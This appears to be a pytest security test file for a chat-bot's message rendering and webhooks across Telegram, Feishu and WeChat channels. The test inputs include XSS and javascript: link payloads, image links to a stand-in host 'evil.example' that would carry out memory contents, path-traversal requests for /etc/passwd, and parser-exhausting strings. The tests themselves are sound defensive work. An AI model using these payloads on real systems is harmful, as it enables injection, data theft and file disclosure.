"""Hostile texts in rendering and parsing of every channel: markup, mentions, false URLs, costly
patterns.
"""

import asyncio
import hmac
import re
import time
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from channels.feishu.cards import preview_text, sanitize_markdown
from channels.message import Address, OutboundMessage
from channels.telegram.html import to_html
from channels.telegram.messages import BotIdentity, parse
from channels.telegram.messages import render as telegram_render
from channels.toolkit.markdown import to_plain
from channels.toolkit.text import replace_unstorable, split_text
from channels.wechat_mp.messages import render as mp_render
from channels.wecom.messages import render
from tests.cases import every_case
from tests.channels.hook_addresses import feishu_door, mp_door, telegram_door
from tests.channels.web.server import ScriptedBot, running

# Literals, so that the product is not compared with itself.
LIMIT = 20_480


def on_mp(text: str) -> str:
    """Render a text for an official account."""
    address = Address(channel="wechat_mp", account="wx1", chat_id="oUser1")
    return mp_render(
        OutboundMessage(id="o", address=address, client_key="k", text=text), last=False
    )


ME = BotIdentity(id=100, username="lab_bot", account="100")
GROUP = {"id": -1002000000123, "type": "supergroup", "title": "Lab"}
NOW = datetime(2026, 11, 22, tzinfo=UTC)
# What is done to a text, and how much of one comes there at once, or more.
RENDERED: dict[str, tuple[Callable[[str], str], int]] = {
    "telegram": (to_html, 4_096),
    "feishu": (sanitize_markdown, 20_000),
    "feishu summary": (preview_text, 20_000),
    "wechat": (to_plain, 4_000),
    "wechat_mp": (on_mp, 20_000),
    "wecom": (render, 2 * LIMIT),
    "clean": (replace_unstorable, 100_000),
    "parts": (lambda text: "".join(split_text(text, 4096, "utf16")), 100_000),
}


def update(text: str, *entities: dict[str, Any], **fields: Any) -> dict[str, Any]:
    message = {
        "message_id": 41,
        "date": 1790000000,
        "from": {"id": 5005, "is_bot": False, "first_name": "Ada"},
        "chat": GROUP,
        "text": text,
        "entities": list(entities),
    }
    return {"update_id": 700100, "message": message | fields}


def mention(text: str, words: str, kind: str = "mention", **fields: Any) -> dict[str, Any]:
    return {"type": kind, "offset": text.index(words), "length": len(words), **fields}


def test_S07_neither_our_name_in_plain_words_nor_a_longer_one_nor_anothers_is_an_address() -> None:
    text = "@lab_bot2 help"
    calls = [
        update("lab_bot, help"),
        update("@lab_bot help"),  # without the platform's own entity it is a word
        update(text, mention(text, "@lab_bot2")),
        update("/help@lab_bot2", mention("/help@lab_bot2", "/help@lab_bot2", "bot_command")),
        update(
            "hey lab_bot",
            mention("hey lab_bot", "lab_bot", "text_mention", user={"id": 101, "is_bot": True}),
        ),
        update(
            "mail@lab_bot.example", mention("mail@lab_bot.example", "mail@lab_bot.example", "email")
        ),
        update(
            "yes",
            reply_to_message={"message_id": 3, "chat": GROUP, "from": {"id": 101, "is_bot": True}},
        ),
    ]
    for call in calls:
        message = parse(call, ME, NOW)
        assert message is not None
        assert not message.addressed, call
    meant = parse(update("@lab_bot help", mention("@lab_bot help", "@lab_bot")), ME, NOW)
    assert meant is not None
    assert meant.addressed


TRICKS = [
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](tg://user?id=1)",
    "[x](vbscript:x)",
    '[x](http://a" onmouseover="alert(1))',
    "<a href='javascript:1'>x</a>",
    "<tg-spoiler>x</tg-spoiler><b>y",
    "![p](https://evil.example/?d=memory)",
    "!![p](https://evil.example/?d=memory)",
    "<at id=all></at>",
    "<AT user_id='ou_1'>x</AT>",
    "<<at id=all></at>",
    "< at id=all>",
    "<![x](y)at id=all></at>",
    "<@all> <@ada>",
    "<<@ada>",
    "<think>x</think>",
]


@every_case("text", TRICKS)
def test_S30_what_the_model_writes_calls_nobody_and_runs_nothing(text: str) -> None:
    html = to_html(text)
    assert not re.search(
        r"<(?!/?(?:b|i|u|s|code|pre|blockquote)\b|a href=\"https?://[^\"]*\"|/a)", html
    )
    assert not re.search(r"<\s*/?\s*at\b", sanitize_markdown(text), re.IGNORECASE)
    assert not re.search(r"!\[[^\]\n]*\]\(", sanitize_markdown(text))
    assert not re.search(r"<\s*/?\s*at\b", preview_text(text), re.IGNORECASE)
    assert not re.search(r"<a\b", on_mp(text), re.IGNORECASE)
    filled = text + "<@b>" * ((LIMIT - 200) // 5) + "x" * (LIMIT // 5)
    for said in (render(text), render(filled)):
        assert not re.search(r"<(?:@|/?think>)", said)


@given(st.text(alphabet="<@!/[]() atx\n`", max_size=60))
def test_S30_no_mixture_of_marks_is_a_mention_or_a_picture_after_rendering(text: str) -> None:
    assert not re.search(r"<(?:@|/?think>)", render(text))
    assert not re.search(r"<\s{0,9}/?\s{0,9}at\b", sanitize_markdown(text), re.IGNORECASE)
    assert not re.search(r"!\[[^\]\n]*\]\(", sanitize_markdown(text))


def test_S30_the_page_of_a_link_is_not_asked_for_by_the_platform() -> None:
    address = Address(channel="telegram", account="100", chat_id="1")
    message = OutboundMessage(
        id="o", address=address, client_key="k", text="https://evil.example/?d=memory"
    )
    assert telegram_render(message)["link_preview_options"] == {"is_disabled": True}


@every_case(
    "path",
    [
        "/files/..%2f..%2fetc/passwd",
        "/hooks/..%2fapi%2fconfig",
        "/hooks/%2e%2e/api/config",
        "/hooks/telegram%00",
        "/hooks//etc/passwd",
        "/static/..%252f..%252fetc/passwd",
        "/hooks/telegram/../../api/config",
    ],
)
async def test_S31_paths_that_climb_are_404_at_the_platforms_door_too(path: str) -> None:
    async with running(ScriptedBot()) as site:
        reader, writer = await asyncio.open_connection("127.0.0.1", site.port)
        writer.write(
            f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{site.port}\r\nConnection: close\r\n\r\n".encode()  # noqa: E501
        )
        answer = await asyncio.wait_for(reader.read(), 30)
        writer.close()
    assert answer.split(b" ", 2)[1] in (b"404", b"401")
    assert b"root:" not in answer


ENDLESS = {
    "stars": "*" * 100_000,
    "underscores": "_a" * 50_000,
    "backticks": "`" * 99_999 + "a",
    "brackets": "[" * 100_000,
    "links": "[a](" * 25_000,
    "pictures": "![" * 50_000,
    "quotations": ">" * 100_000,
    "deep quotations": "> " * 50_000 + "x",
    "deep list": "".join(f"{' ' * depth}- x\n" for depth in range(400)),
    "fences": "```\n" * 25_000,
    "table": "|" * 50_000 + "\n" + "|-" * 25_000,
    "at": "<" * 100_000 + "at",
    "blanks": "<" + " " * 100_000 + "at",
    "anchors": "<a href=" * 12_500,
    "one line": "word " * 20_000,
    "clusters": "e" + "\u0301" * 100_000,
    "families": "\U0001f468\u200d" * 30_000,
    "bidi": "\u202e" * 100_000,
}
# what takes milliseconds alone takes longer beside others; what is quadratic or worse takes minutes
SECONDS = 5.0


@pytest.mark.parametrize("kind", [*ENDLESS])
@pytest.mark.parametrize("channel", [*RENDERED])
def test_S66_no_text_keeps_a_channel_busy(channel: str, kind: str) -> None:
    form, most = RENDERED[channel]
    began = time.process_time()
    form(ENDLESS[kind][:most])
    assert time.process_time() - began < SECONDS


def test_S66_two_megabytes_on_one_line_are_cut_into_parts_in_time() -> None:
    began = time.process_time()
    text = "0123456789" * 200_000
    assert "".join(split_text(text, 4096, "utf16")) == text
    assert time.process_time() - began < 6 * SECONDS


@pytest.mark.parametrize("door_of", [telegram_door, feishu_door, mp_door, lambda: mp_door("plain")])
async def test_S19_a_proof_is_compared_whole_and_never_sign_by_sign(
    door_of: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    compared: list[tuple[bytes, bytes]] = []
    whole = hmac.compare_digest

    def noting(one: Any, other: Any) -> bool:
        compared.append((one, other))
        return bool(whole(one, other))

    monkeypatch.setattr(hmac, "compare_digest", noting)
    async with door_of() as door:
        right = door.genuine("x").value
        for kept in range(0, len(right), 7):
            compared.clear()
            forged = right[:kept] + ("0" if right[kept] != "0" else "1") * (len(right) - kept)
            reply = await door.channel.hook(door.genuine("x").proved(forged).request())
            assert (reply.status, reply.body) == (401, b"")
            assert forged.encode() in [one for one, _ in compared]
            assert all(
                isinstance(other, bytes) and len(other) == len(right) for _, other in compared
            )
